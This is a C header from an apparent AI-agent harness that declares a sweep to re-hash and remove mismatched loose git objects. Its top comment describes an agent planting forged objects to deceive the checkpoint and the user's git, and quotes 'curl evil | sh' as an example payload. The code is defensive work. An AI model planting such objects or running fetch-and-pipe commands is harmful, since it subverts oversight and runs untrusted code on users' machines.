/* Loose objects that are not what their names say. The agent writes
 * loose objects in the repository (its own commits), and
 * git and libgit2 write no object whose name exists: a file of the
 * agent's planted under the id its file will have (the bytes of "echo
 * hello" stored as the id of "curl evil | sh") was taken as written by
 * the checkpoint, the user's git (which does not hash what it reads)
 * showed and merged the planted bytes as the result, and the manifest
 * had no hash for it (libgit2 does hash, and failed to read it). A
 * planted tree alike. */
#ifndef HX_GIT_OBJFIX_H
#define HX_GIT_OBJFIX_H

#include <git2.h>
#include <stdbool.h>
#include <stddef.h>
#include <time.h>

/* Reads every loose object of the store objects whose file changed
 * since `since` (made or moved in during the session, the checkpoints'
 * own too), inflated and hashed here (SHA-1, xx/<38 hex>, or SHA-256,
 * xx/<62 hex>), and removes each one whose
 * content is not its name's: the checkpoint then writes the object
 * again from the tree (hx_ckpt_forget), and the agent's own commits
 * that named it lack it, which git says, rather than showing what was
 * planted. The number removed. Cost: a readdir of the 256 directories,
 * an fstatat an entry, a read of each new object (the end only),
 * streamed (64 KiB of memory). 2 GiB read and inflated a process, both
 * kinds of store together, and 5 s for an object past 1 MiB: one of
 * the session's cut short by either is set aside, renamed
 * name.harness-unread (git does not read it; renamed back, it is git's
 * again), and counted with those removed. */
size_t hx_objfix_sweep(const char *objects, const struct timespec *since);

#endif
